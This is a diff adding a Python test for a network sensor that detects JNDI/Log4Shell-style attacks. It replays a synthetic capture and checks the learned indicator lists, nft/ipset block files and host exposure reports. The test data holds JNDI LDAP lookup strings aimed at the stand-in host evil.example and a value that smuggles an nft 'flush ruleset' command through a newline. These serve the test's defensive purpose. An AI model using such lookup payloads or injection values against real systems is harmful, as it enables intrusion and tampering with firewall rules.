@@ -1,0 +1,123 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""learned.py SENSOR: the files of outputs.learned and outputs.exposure after whole attacks (docs/IOCS.md).
+
+What they hold, that a hostile name adds no line to them, that the list reader takes them, that one and two workers write the
+same bytes, and that nft and ipset, where installed, take theirs.
+"""
+import hashlib
+import json
+import pathlib
+import shutil
+import subprocess
+import sys
+import tempfile
+
+import sensor as lab
+from tale import EVIL, SCANNER, Tale, VICTIM, java_class
+
+OTHER = "10.0.0.12"
+SHA = hashlib.sha256(java_class("Payload")).hexdigest()
+HOSTILE = "ldap://x};flush ruleset\nadd a.evil.example:1389/a b"
+
+
+def story():
+    tale = Tale()
+    tale.lookup("ldap://%s:1389/a" % EVIL)
+    tale.search(codebase="http://%s:8888/" % EVIL)
+    tale.fetch(agent="Java/1.8.0_181")
+    tale.lookup("ldap://${env:USER}.evil.example/a", victim=OTHER, sender="198.51.100.77")
+    tale.asks("root.evil.example", client=OTHER)
+    tale.lookup("ldap://198.51.100.200/never", victim="10.0.0.13")  # a mere attempt
+    tale.lookup(HOSTILE.replace("\n", "%0a"), victim="10.0.0.14")
+    tale.between("10.0.0.15", "192.0.2.80").tcp(80, [
+        ("c", b"GET / HTTP/1.1\r\nHost: x.example\r\nUser-Agent: Apache-HttpClient/4.5.13 (Java/17.0.15)\r\n\r\n"),
+        ("s", b"HTTP/1.1 204 No Content\r\n\r\n")])
+    tale.wait(10)
+    return tale
+
+
+def run(program, path, folder, *sets):
+    folder.mkdir()
+    extra = ["-l", str(folder), "-s", str(lab.TOP / "rules/incidents.rules")]
+    for each in ("outputs.learned.enabled=yes", "outputs.exposure.enabled=yes", *sets):
+        extra += ["--set", each]
+    lab.replay(program, path, extra=extra)
+    return {file.name: file.read_text() for file in folder.iterdir() if file.name != "eve.json"}
+
+
+def items(text):
+    return sorted(line.split(" #")[0] for line in text.splitlines())
+
+
+def expect(what, expected, found):
+    return [] if expected == found else ["%s: expected\n  %r, found\n  %r" % (what, expected, found)]
+
+
+def check_learned(files):
+    bad = expect("files", {"learned.jsonl", "learned.nft", "learned.ipset", "exposure.jsonl"} |
+                 {"learned-%s.list" % kind for kind in ("address", "sender", "domain", "url", "sha256")}, set(files))
+    bad += expect("addresses", [EVIL], items(files["learned-address.list"]))
+    bad += expect("senders", sorted([SCANNER, "198.51.100.77"]), items(files["learned-sender.list"]))
+    bad += expect("domains", ["evil.example"], items(files["learned-domain.list"]))
+    bad += expect("URLs", ["http://%s:8888/" % EVIL], items(files["learned-url.list"]))
+    bad += expect("hashes", [SHA], items(files["learned-sha256.list"]))
+    adds = [line for line in files["learned.nft"].splitlines() if line.startswith("add element")]
+    bad += expect("nft", ["add element inet jndi_sensor callbacks4 { %s }" % EVIL], adds)
+    adds = [line for line in files["learned.ipset"].splitlines() if line.startswith("add")]
+    bad += expect("ipset", ["add jndi_callbacks4 %s -exist" % EVIL], adds)
+    known = {(row["kind"], row["indicator"]): row for row in map(json.loads, files["learned.jsonl"].splitlines())}
+    bad += expect("verdict", "delivered", known["address", EVIL]["verdict"])
+    bad += expect("verdict", "vulnerable", known["domain", "evil.example"]["verdict"])
+    return bad
+
+
+def check_exposure(text):
+    hosts = {row["src_ip"]: row["exposure"] for row in map(json.loads, text.splitlines())}
+    bad = expect("hosts", [VICTIM, OTHER, "10.0.0.15"], list(hosts))
+    bad += expect("victim", ("yes", True, "delivered", ["1.8.0_181"]),
+                  (hosts[VICTIM]["loads_remote_classes"], hosts[VICTIM]["called_back"], hosts[VICTIM]["verdict"],
+                   [java["version"] for java in hosts[VICTIM]["java"]]))
+    bad += expect("what its Java did", {"user_agent", "ldap", "fetch"}, set(hosts[VICTIM]["seen"]))
+    bad += expect("a host that only asked for a name", ("unknown", True), (hosts[OTHER]["loads_remote_classes"], hosts[OTHER]["called_back"]))
+    bad += expect("a bystander", ("no", False), (hosts["10.0.0.15"]["loads_remote_classes"], hosts["10.0.0.15"]["called_back"]))
+    return bad
+
+
+def check_tools(files, folder):
+    """As far as they are installed and may look at this machine's tables."""
+    if shutil.which("nft") and subprocess.run(["nft", "list", "tables"], capture_output=True).returncode == 0:
+        check = subprocess.run(["nft", "-c", "-f", str(folder / "learned.nft")], capture_output=True, text=True)
+        return expect("nft -c", "", check.stderr)
+    print("nft: not installed, or not allowed to look: its file is only read here")
+    return []
+
+
+def main():
+    program, bad = sys.argv[1], []
+    with tempfile.TemporaryDirectory() as name:
+        top = pathlib.Path(name)
+        path = top / "story.pcap"
+        story().write(path)
+        files = run(program, path, top / "one")
+        bad += check_learned(files) + check_exposure(files["exposure.jsonl"]) + check_tools(files, top / "one")
+        if run(program, path, top / "two", "workers=2") != files:
+            bad.append("two workers write other files")
+        later = run(program, path, top / "three", "outputs.learned.from=delivered")
+        bad += expect("domains of those that were delivered", [], items(later["learned-domain.list"]))
+        bad += expect("addresses of those", [EVIL], items(later["learned-address.list"]))
+        early = run(program, path, top / "four", "outputs.learned.from=attempted")
+        bad += expect("addresses of attempts", sorted([EVIL, "198.51.100.200"]), items(early["learned-address.list"]))
+        if any("flush ruleset" in line for line in early["learned.nft"].splitlines()):
+            bad.append("a hostile name in nft's file")
+        allowed = run(program, path, top / "five", "vars.address-groups.LDAP_ALLOWED=[%s]" % EVIL)
+        bad += expect("what LDAP_ALLOWED explains", [], items(allowed["learned-sha256.list"]))
+        reread = ",".join(str(top / "four" / file) for file in sorted(early) if file.endswith(".list"))
+        lab.replay(program, path, extra=["--set", "iocs.files=" + reread])  # its own lists, or a complaint
+    if bad:
+        sys.exit("\n".join(bad))
+    print("as expected")
+
+
+if __name__ == "__main__":
+    main()
